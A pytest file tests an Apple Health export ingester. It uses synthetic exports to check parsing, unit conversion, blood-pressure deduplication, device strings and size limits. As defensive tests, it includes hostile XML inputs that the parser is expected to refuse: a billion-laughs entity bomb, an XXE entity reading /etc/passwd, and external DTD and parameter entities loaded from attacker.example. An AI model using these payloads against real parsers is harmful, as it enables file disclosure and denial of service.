"""Apple Health export.xml / export.zip → samples: streamed, deduplicated, hardened.

``write_export`` generates synthetic exports shaped like the Health app's (DOCTYPE with an
internal DTD, Record and Correlation elements, device strings). The ~200 MB bounded-memory run
is done by hand, not in the suite (docs/ingestion.md):
``python -m tests.monitoring.test_ingest_apple_health 200``.
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import IO

import pytest

from hygie.fhir.outcome import FhirError
from hygie.fhir.validation import validate_resource
from hygie.monitoring.ingest.apple_health import (
    AppleHealthStream,
    device_fields,
    parse_device,
    read_apple_health,
)
from hygie.monitoring.ingest.fhir_out import observation
from hygie.monitoring.ingest.safe_xml import Limits
from hygie.monitoring.ingest.samples import Sample

HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE HealthData [
<!-- HealthKit Export Version: 13 -->
<!ELEMENT HealthData (ExportDate,Me,(Record|Correlation|Workout|ActivitySummary)*)>
<!ATTLIST HealthData
  locale CDATA #REQUIRED
>
<!ELEMENT Record ((MetadataEntry|HeartRateVariabilityMetadataList)*)>
<!ATTLIST Record
  type          CDATA #REQUIRED
  unit          CDATA #IMPLIED
  value         CDATA #IMPLIED
  sourceName    CDATA #REQUIRED
  sourceVersion CDATA #IMPLIED
  device        CDATA #IMPLIED
  creationDate  CDATA #IMPLIED
  startDate     CDATA #REQUIRED
  endDate       CDATA #REQUIRED
>
<!-- Note: Any Records that appear as children of a correlation also appear as top-level records
     in this document. -->
]>
<HealthData locale="fr_FR">
 <ExportDate value="2026-11-21 09:00:00 +0100"/>
 <Me HKCharacteristicTypeIdentifierDateOfBirth="1958-03-02"
     HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexFemale"/>
"""
TAIL = "</HealthData>\n"
WATCH = (
    "&lt;&lt;HKDevice: 0x283f3c5a0&gt;, name:Apple Watch, manufacturer:Apple Inc., model:Watch, "
    "hardware:Watch6,1, software:11.1&gt;"
)
CUFF = "&lt;&lt;HKDevice: 0x2813a1f40&gt;, name:BPM Connect, manufacturer:Withings, model:BPM Connect&gt;"


def record(
    kind: str,
    value: str,
    unit: str,
    start: str,
    end: str | None = None,
    source: str = "Montre de Jeanne",
    device: str = WATCH,
    children: str = "",
) -> str:
    attrs = (
        f'type="HK{kind}" sourceName="{source}" sourceVersion="11.1" device="{device}" unit="{unit}" '
        f'creationDate="{start}" startDate="{start}" endDate="{end or start}" value="{value}"'
    )
    return f" <Record {attrs}>{children}</Record>\n" if children else f" <Record {attrs}/>\n"


def bp_correlation(systolic: str, diastolic: str, when: str, source: str = "Health Mate") -> str:
    inner = record(
        "QuantityTypeIdentifierBloodPressureSystolic", systolic, "mmHg", when, source=source, device=CUFF
    ) + record(
        "QuantityTypeIdentifierBloodPressureDiastolic", diastolic, "mmHg", when, source=source, device=CUFF
    )
    return (
        f' <Correlation type="HKCorrelationTypeIdentifierBloodPressure" sourceName="{source}" '
        f'sourceVersion="6" device="{CUFF}" creationDate="{when}" startDate="{when}" endDate="{when}">\n'
        f'  <MetadataEntry key="HKWasUserEntered" value="0"/>\n{inner} </Correlation>\n'
    )


SNIPPET = (
    HEAD
    + "".join(
        [
            record(
                "QuantityTypeIdentifierHeartRate",
                "72",
                "count/min",
                "2026-11-20 08:01:00 +0100",
                children='<MetadataEntry key="HKMetadataKeyHeartRateMotionContext" value="1"/>',
            ),
            record(
                "QuantityTypeIdentifierHeartRate", "64", "count/min", "2026-11-20 07:59:00 +0100"
            ),  # out of order
            record("QuantityTypeIdentifierOxygenSaturation", "0.97", "%", "2026-11-20 08:02:00 +0100"),
            record("QuantityTypeIdentifierRespiratoryRate", "15", "count/min", "2026-11-20 03:00:00 +0100"),
            record(
                "QuantityTypeIdentifierBodyTemperature",
                "98.6",
                "degF",
                "2026-11-20 07:00:00 +0100",
                source="Kinsa",
            ),
            record(
                "QuantityTypeIdentifierBloodGlucose",
                "104",
                "mg/dL",
                "2026-11-20 07:30:00 +0100",
                source="Contour",
            ),
            record(
                "QuantityTypeIdentifierBodyMass", "150", "lb", "2026-11-20 07:10:00 +0100", source="Withings"
            ),
            record(
                "QuantityTypeIdentifierStepCount",
                "412",
                "count",
                "2026-11-20 08:00:00 +0100",
                "2026-11-20 08:10:00 +0100",
            ),
            record("QuantityTypeIdentifierActiveEnergyBurned", "12", "kcal", "2026-11-20 08:00:00 +0100"),
            record(
                "QuantityTypeIdentifierHeartRate", "350", "count/min", "2026-11-20 08:03:00 +0100"
            ),  # impossible
            record("QuantityTypeIdentifierHeartRate", "70", "count/min", "2026-11-20 08:04:00"),  # naive
            # Loose copies of the correlation's pair (counted once), and a loose pair of its own.
            record(
                "QuantityTypeIdentifierBloodPressureDiastolic",
                "81",
                "mmHg",
                "2026-11-20 07:20:00 +0100",
                source="Health Mate",
                device=CUFF,
            ),
            record(
                "QuantityTypeIdentifierBloodPressureDiastolic",
                "79",
                "mmHg",
                "2026-11-20 19:20:00 +0100",
                source="Health Mate",
                device=CUFF,
            ),
            record(
                "QuantityTypeIdentifierBloodPressureSystolic",
                "131",
                "mmHg",
                "2026-11-20 07:20:00 +0100",
                source="Health Mate",
                device=CUFF,
            ),
            record(
                "QuantityTypeIdentifierBloodPressureSystolic",
                "127",
                "mmHg",
                "2026-11-20 19:20:00 +0100",
                source="Health Mate",
                device=CUFF,
            ),
            record(
                "QuantityTypeIdentifierBloodPressureSystolic",
                "140",
                "mmHg",
                "2026-11-21 07:20:00 +0100",
                source="Health Mate",
                device=CUFF,
            ),  # no diastolic
            ' <Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="Montre de Jeanne" '
            'startDate="2026-11-19 23:30:00 +0100" endDate="2026-11-20 00:00:00 +0100" '
            'value="HKCategoryValueSleepAnalysisInBed"/>\n',
            ' <Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="Montre de Jeanne" '
            f'device="{WATCH}" startDate="2026-11-20 00:00:00 +0100" endDate="2026-11-20 01:30:00 +0100" '
            'value="HKCategoryValueSleepAnalysisAsleepCore"/>\n',
            ' <Record type="HKCategoryTypeIdentifierSleepAnalysis" sourceName="Montre de Jeanne" '
            'startDate="2026-11-20 01:30:00 +0100" endDate="2026-11-20 01:35:00 +0100" '
            'value="HKCategoryValueSleepAnalysisAwake"/>\n',
            bp_correlation("131", "81", "2026-11-20 07:20:00 +0100"),
        ]
    )
    + TAIL
)


def kinds_of(samples: list[Sample]) -> list[str]:
    return [s.kind for s in samples]


def test_a_realistic_snippet() -> None:
    result = read_apple_health(io.BytesIO(SNIPPET.encode()))
    by_kind: dict[str, list[Sample]] = {}
    for s in result.samples:
        by_kind.setdefault(s.kind, []).append(s)
    assert [s.value for s in by_kind["heart-rate"]] == [72.0, 64.0]
    assert by_kind["spo2"][0].value == 97.0
    assert by_kind["body-temperature"][0].value == 37.0
    assert by_kind["glucose"][0].value == pytest.approx(5.7726, abs=1e-4)
    assert by_kind["body-weight"][0].value == pytest.approx(68.0389, abs=1e-4)
    steps = by_kind["steps"][0]
    assert (steps.value, steps.end - steps.start) == (412.0, timedelta(minutes=10))  # type: ignore[operator]
    assert [s.value for s in by_kind["sleep"]] == [90.0]
    pressures = sorted(dict(s.components)["systolic"] for s in by_kind["blood-pressure"])
    assert pressures == [127.0, 131.0]  # the correlation and its loose copies count once
    assert by_kind["respiratory-rate"][0].value == 15.0
    first = by_kind["heart-rate"][0]
    assert first.start == datetime(2026, 11, 20, 8, 1, tzinfo=timezone(timedelta(hours=1)))
    assert first.end is None
    assert first.device is not None
    assert (first.device.manufacturer, first.device.model_number, first.device.source) == (
        "Apple Inc.",
        "Watch6,1",
        "Montre de Jeanne",
    )
    assert sorted((e.key, e.field) for e in result.errors) == [
        ("ingest_bp_unpaired", "systolic"),
        ("ingest_naive_time", "startDate"),
        ("ingest_range", "value"),
    ]
    assert all(e.location.startswith("line ") for e in result.errors)
    assert result.skipped == {
        "HKQuantityTypeIdentifierActiveEnergyBurned": 1,
        "HKCategoryTypeIdentifierSleepAnalysis:InBed": 1,
        "HKCategoryTypeIdentifierSleepAnalysis:Awake": 1,
        "duplicate blood pressure": 1,
    }
    for s in result.samples:
        assert validate_resource(observation(s, "Patient/p1", "Device/d1")) == []


def test_same_export_twice_gives_the_same_identifiers() -> None:
    def ids() -> list[str]:
        return [
            observation(s, "Patient/p1")["identifier"][0]["value"]
            for s in read_apple_health(io.BytesIO(SNIPPET.encode())).samples
        ]

    first = ids()
    assert first == ids()
    assert len(set(first)) == len(first)


def test_export_zip_is_streamed_from_its_member(tmp_path: Path) -> None:
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("apple_health_export/export_cda.xml", "<ClinicalDocument/>")
        z.writestr("apple_health_export/export.xml", SNIPPET)
    result = read_apple_health(archive)
    assert len(result.samples) == 11
    plain = tmp_path / "export.xml"
    plain.write_text(SNIPPET, "utf-8")
    assert read_apple_health(plain).samples == result.samples
    empty = tmp_path / "empty.zip"
    with zipfile.ZipFile(empty, "w") as z:
        z.writestr("readme.txt", "nothing")
    with pytest.raises(FhirError) as caught:
        read_apple_health(empty)
    assert (caught.value.status, caught.value.issues[0].key) == (400, "ingest_zip")


def test_device_strings() -> None:
    info = parse_device(
        "<<HKDevice: 0x1>, name:iPhone, manufacturer:Apple Inc., model:iPhone, "
        "hardware:iPhone14,2, software:17.0, localIdentifier:ABC-1>",
        "iPhone de Jeanne",
        "17.0",
    )
    assert info is not None
    assert (info.name, info.manufacturer, info.model, info.model_number, info.version, info.identifier) == (
        "iPhone",
        "Apple Inc.",
        "iPhone",
        "iPhone14,2",
        "17.0",
        "ABC-1",
    )
    assert parse_device(None, None, None) is None
    only_app = parse_device(None, "MyFitnessPal", "1")
    assert only_app is not None and only_app.source == "MyFitnessPal"


def test_unknown_units_and_unreadable_values_are_record_errors() -> None:
    body = "".join(
        [
            record("QuantityTypeIdentifierBodyMass", "11", "st", "2026-11-20 07:10:00 +0100"),
            record("QuantityTypeIdentifierHeartRate", "n/a", "count/min", "2026-11-20 07:11:00 +0100"),
            record("QuantityTypeIdentifierHeartRate", "61", "count/min", "20/11/2026 07:12"),
            record("QuantityTypeIdentifierHeartRate", "62", "count/min", "2026-11-20 07:13:00 +0100"),
        ]
    )
    result = read_apple_health(io.BytesIO((HEAD + body + TAIL).encode()))
    assert [s.value for s in result.samples] == [62.0]
    assert [(e.key, e.field) for e in result.errors] == [
        ("ingest_unit", "unit"),
        ("ingest_number", "value"),
        ("ingest_time", "startDate"),
    ]
    assert "st" in result.errors[0].message("en") and "kg" in result.errors[0].message("en")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<HealthData><Record type="HKQuantityTypeIdentifierHeartRate" value="&lol3;"/></HealthData>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<HealthData><Record type="HKQuantityTypeIdentifierHeartRate" sourceName="&xxe;"/></HealthData>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE HealthData SYSTEM "http://attacker.example/evil.dtd">
<HealthData/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [ <!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p; ]>
<HealthData/>
"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_malicious_xml_is_refused_cleanly(xml: str) -> None:
    with pytest.raises(FhirError) as caught:
        read_apple_health(io.BytesIO(xml.encode()))
    assert caught.value.status == 400
    assert caught.value.issues[0].key == "ingest_xml_forbidden"
    assert caught.value.issues[0].code == "security"


def test_malformed_and_oversized_documents() -> None:
    with pytest.raises(FhirError) as caught:
        read_apple_health(io.BytesIO((HEAD + " <Record type='x'>").encode()))
    assert (caught.value.status, caught.value.issues[0].key) == (400, "ingest_xml_malformed")
    with pytest.raises(FhirError) as caught:
        read_apple_health(io.BytesIO(SNIPPET.encode()), Limits(max_elements=10))
    assert (caught.value.status, caught.value.issues[0].key) == (413, "ingest_too_large")
    deep = "<HealthData>" + "<a>" * 40 + "</a>" * 40 + "</HealthData>"
    with pytest.raises(FhirError) as caught:
        read_apple_health(io.BytesIO(deep.encode()))
    assert caught.value.status == 413
    with pytest.raises(FhirError) as caught:
        read_apple_health(io.BytesIO(SNIPPET.encode()), Limits(max_bytes=1000))
    assert caught.value.status == 413


# -- generator (used by the 5 MB test and, by hand, for the 200 MB memory check) ---------------


def _records(count: int) -> Iterator[str]:
    base = datetime(2025, 1, 1, tzinfo=timezone(timedelta(hours=1)))
    for i in range(count):
        when = base + timedelta(minutes=i)
        stamp = when.strftime("%Y-%m-%d %H:%M:%S +0100")
        if i % 10 == 9:
            end = (when + timedelta(minutes=1)).strftime("%Y-%m-%d %H:%M:%S +0100")
            yield record("QuantityTypeIdentifierStepCount", str(i % 120), "count", stamp, end)
        elif i % 500 == 7:
            yield bp_correlation(str(110 + i % 30), str(70 + i % 15), stamp)
        else:
            yield record(
                "QuantityTypeIdentifierHeartRate",
                str(55 + i % 60),
                "count/min",
                stamp,
                children='<MetadataEntry key="HKMetadataKeyHeartRateMotionContext" value="0"/>',
            )


def write_export(out: IO[str], megabytes: float) -> int:
    """Write a synthetic export of about ``megabytes`` MB; returns the number of records."""
    out.write(HEAD)
    written, count = len(HEAD), 0
    target = int(megabytes * 1_000_000)
    for line in _records(10**9):
        out.write(line)
        written += len(line)
        count += 1
        if written >= target:
            break
    out.write(TAIL)
    return count


def test_a_5_mb_export_streams_through(tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    with path.open("w", encoding="utf-8") as out:
        records = write_export(out, 5)
    stream = AppleHealthStream(path)
    samples = errors = 0
    for item in stream:
        if isinstance(item, Sample):
            samples += 1
        else:
            errors += 1
    correlations = sum(1 for i in range(records) if i % 500 == 7)
    assert errors == 0
    assert samples == records
    assert stream.records == records + correlations * 2  # each correlation holds two records
    assert stream.skipped == {}


if __name__ == "__main__":  # by hand: python -m tests.monitoring.test_ingest_apple_health 200
    import resource
    import tempfile
    import time

    size = float(sys.argv[1]) if len(sys.argv) > 1 else 200
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "export.xml"
        with target.open("w", encoding="utf-8") as handle:
            n = write_export(handle, size)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        began = time.perf_counter()
        kept = sum(1 for item in AppleHealthStream(target) if isinstance(item, Sample))
        took = time.perf_counter() - began
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print(
            f"{target.stat().st_size / 1e6:.0f} MB, {n} records, {kept} samples in {took:.1f} s; "
            f"peak RSS {before / 1024:.0f} MB before parsing, {peak / 1024:.0f} MB after"
        )


DEVICE_FIELD_CASES = [
    (
        "<<HKDevice: 0x283eb0a00>, name:Apple Watch, manufacturer:Apple Inc., model:Watch, "
        "hardware:Watch6,1, software:9.0>",
        {"name": "Apple Watch", "manufacturer": "Apple Inc.", "model": "Watch", "hardware": "Watch6,1",
         "software": "9.0"},
    ),
    ("<<HKDevice: 0x1>, name:Foo, Bar, model:X>", {"name": "Foo, Bar", "model": "X"}),  # ", " in a value
    (
        "<<HKDevice: 0x1>, localIdentifier:00:24:e4, software:1>",  # ":" inside a value
        {"localIdentifier": "00:24:e4", "software": "1"},
    ),
    ("name:A>", {"name": "A"}),
    ("name:A", {"name": "A"}),  # no closing ">"
    ("name:>", {"name": ""}),
    ("no fields at all", {}),
    ("", {}),
    ("x:" * 8000, {"x": "x:" * 7999}),  # one key, the rest its value (was quadratic)
]


@pytest.mark.parametrize(("text", "fields"), DEVICE_FIELD_CASES)
def test_device_fields(text: str, fields: dict[str, str]) -> None:
    """The ``key:value`` pairs of Apple's device attribute (what parse_device reads)."""
    found = device_fields(text)
    found.pop("HKDevice", None)  # the object's address, never read
    assert found == fields
